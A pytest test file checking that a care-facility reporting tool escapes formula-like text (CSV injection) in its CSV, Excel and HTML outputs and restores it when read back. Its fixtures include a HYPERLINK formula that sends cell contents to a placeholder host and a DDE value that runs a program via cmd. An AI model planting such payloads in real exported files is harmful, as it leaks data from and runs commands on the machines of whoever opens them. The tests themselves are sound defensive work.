"""Cells are data, never formulas (CSV injection): a text that a spreadsheet would run as a
formula is text in results.xlsx and starts with a single quote in the CSV files, numbers stay
numbers, and `carefacility report` reads the original text back."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from carefacility.report.excel import write_workbook
from carefacility.report.output_folder import (
    FORMULA_PREFIXES,
    neutralise_formulas,
    neutralise_text,
    restore_formulas,
    restore_text,
    write_csv,
)
from carefacility.report.writer import read_run_folder, rebuild_report, write_report
from carefacility.runner.results import RunResult

HYPERLINK = '=HYPERLINK("http://x"&A2,"Click")'
LABELS = [HYPERLINK, "+1", "@SUM(A1)", "-2+3", "\tTAB", "\rCR"]
"""Target labels a scenario author (or an attacker) could write."""


def _result() -> RunResult:
    rows = []
    for year in (2021, 2022):
        for metric, mean, unit in (("beds", 100.0, "beds"), ("net_change", -2.5, "beds"),
                                   ("nursing_share", 0.5, "fraction")):
            rows.append({"year": year, "metric": metric, "mean": mean, "ci_low": mean - 1,
                         "ci_high": mean + 1, "unit": unit, "replications": 2})
    kpis = pd.DataFrame(rows)
    per_replication = pd.DataFrame({"replication": [0, 1], "year": [2021, 2021],
                                    "metric": ["net_change", "net_change"],
                                    "value": [-3.0, -2.0], "unit": ["beds", "beds"]})
    scorecard = pd.DataFrame({
        "target": [f"t{i}" for i in range(len(LABELS))], "label": LABELS,
        "year": 2021, "metric": "net_change", "comparison": ">=", "threshold": -4.0,
        "simulated_mean": -2.5, "ci_low": -3.5, "ci_high": -1.5, "status": "met",
        "shortfall": 0.0, "shortfall_unit": ["-", "+", "beds", "beds", "beds", "beds"]})
    return RunResult(per_replication=per_replication, kpis=kpis,
                     metadata={"scenario": "=cmd|' /C calc'!A0", "seed": 1},
                     tables={"scorecard": scorecard})


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("injection") / "run"
    write_report(_result(), out, long_sheets=True)
    return out


def _fields(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_fields_start_with_a_quote(folder: Path) -> None:
    rows = _fields(folder / "scorecard.csv")
    assert [row["label"] for row in rows] == ["'" + label for label in LABELS]
    assert rows[0]["label"] == "'" + HYPERLINK
    # a lone sign (the tables' "no unit" mark) cannot compute anything: left as it is
    assert [row["shortfall_unit"] for row in rows[:2]] == ["-", "+"]
    # numbers, negative ones included, are numbers
    assert {row["simulated_mean"] for row in rows} == {"-2.5"}
    kpis = _fields(folder / "kpis.csv")
    assert {row["mean"] for row in kpis if row["metric"] == "net_change"} == {"-2.5"}


def test_no_csv_field_the_tool_writes_is_formula_like(folder: Path) -> None:
    checked = 0
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    checked += 1
                    if field[:1] in ("=", "@", "\t", "\r"):
                        pytest.fail(f"{path.name}: {field!r}")
                    if field[:1] in ("+", "-") and field not in ("+", "-"):
                        float(field)  # only numbers may start with a sign
    assert checked > 50


def test_workbook_has_no_formula_and_keeps_the_text(folder: Path) -> None:
    # an XML reader turns a carriage return into a line feed: compare with that
    labels_read = [label.replace("\r", "\n") for label in LABELS]
    workbook = openpyxl.load_workbook(folder / "results.xlsx")
    text_like = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_PREFIXES:
                    assert cell.data_type == "s" and cell.quotePrefix, (
                        sheet.title, cell.coordinate)
                    text_like.append(cell.value)
    assert set(labels_read) - {"\nCR"} <= set(text_like)
    grid = workbook["scorecard"]  # targets × years: the labels in column A below the header
    assert [grid.cell(row=row, column=1).value for row in range(3, 3 + len(LABELS))] == \
        labels_read
    assert {grid.cell(row=row, column=3).value for row in range(3, 3 + len(LABELS))} == {-2.5}
    scorecard = workbook["scorecard_table"]
    header = [cell.value for cell in scorecard[1]]
    labels = [row[header.index("label")].value for row in scorecard.iter_rows(min_row=2)]
    assert labels == labels_read  # the text itself, without the CSV's quote
    means = [row[header.index("simulated_mean")] for row in scorecard.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" and cell.value == -2.5 for cell in means)
    kpis = workbook["kpis"]
    header = [cell.value for cell in kpis[1]]
    values = [row[header.index("mean")] for row in kpis.iter_rows(min_row=2)]
    assert any(cell.value == -2.5 for cell in values)
    assert all(cell.data_type == "n" for cell in values)


def test_rebuilt_report_reads_the_original_text(folder: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    copy.mkdir()
    for path in folder.iterdir():
        (copy / path.name).write_bytes(path.read_bytes())
    tables, metadata, _ = read_run_folder(copy)
    assert list(tables["scorecard"]["label"]) == LABELS
    assert metadata["scenario"] == "=cmd|' /C calc'!A0"
    csv_before = {p.name: p.read_bytes() for p in copy.glob("*.csv")}
    rebuild_report(copy)
    assert {p.name: p.read_bytes() for p in copy.glob("*.csv")} == csv_before
    grid = openpyxl.load_workbook(copy / "results.xlsx")["scorecard"]
    # not "'=HYPERLINK..." after a round trip
    assert [grid.cell(row=row, column=1).value for row in range(3, 8)] == LABELS[:5]
    html = (copy / "report.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://x&#34;&amp;A2,&#34;Click&#34;)" in html
    assert "&#39;=HYPERLINK" not in html
    workbook = openpyxl.load_workbook(copy / "results.xlsx")
    assert not [cell for sheet in workbook.worksheets for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]


def test_column_names_are_neutralised_too(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=bad": ["x"], "n": [-1]})
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "'=bad,n"
    write_workbook({"kpis": frame}, tmp_path / "t.xlsx", long_sheets=True)
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx")["kpis"]["A1"]
    assert cell.value == "=bad" and cell.data_type == "s" and cell.quotePrefix


def test_numbers_and_plain_text_are_untouched() -> None:
    frame = pd.DataFrame({"n": [-1.5, 2.0], "i": [-3, 4], "t": ["a-b", "x=1"],
                          "d": pd.to_datetime(["2021-01-01", "2022-01-01"])})
    assert neutralise_formulas(frame) is frame


@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK), ("+1", "'+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("=", "'="),
    ("-", "-"), ("+", "+"), ("'=x", "''=x"), ("'", "'"), ("'a", "'a"), ("a=b", "a=b"), ("", "")])
def test_neutralise_rule(text: str, written: str) -> None:
    assert neutralise_text(text) == written
    assert restore_text(written) == text


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " "]),
               max_size=6))
def test_neutralise_then_restore_gives_the_text_back(text: str) -> None:
    written = neutralise_text(text)
    assert restore_text(written) == text
    assert written[:1] not in FORMULA_PREFIXES or written in ("+", "-")
    frame = pd.DataFrame({"t": [text, None], "n": [-1.0, 2.0]})
    assert restore_formulas(neutralise_formulas(frame)).equals(frame)
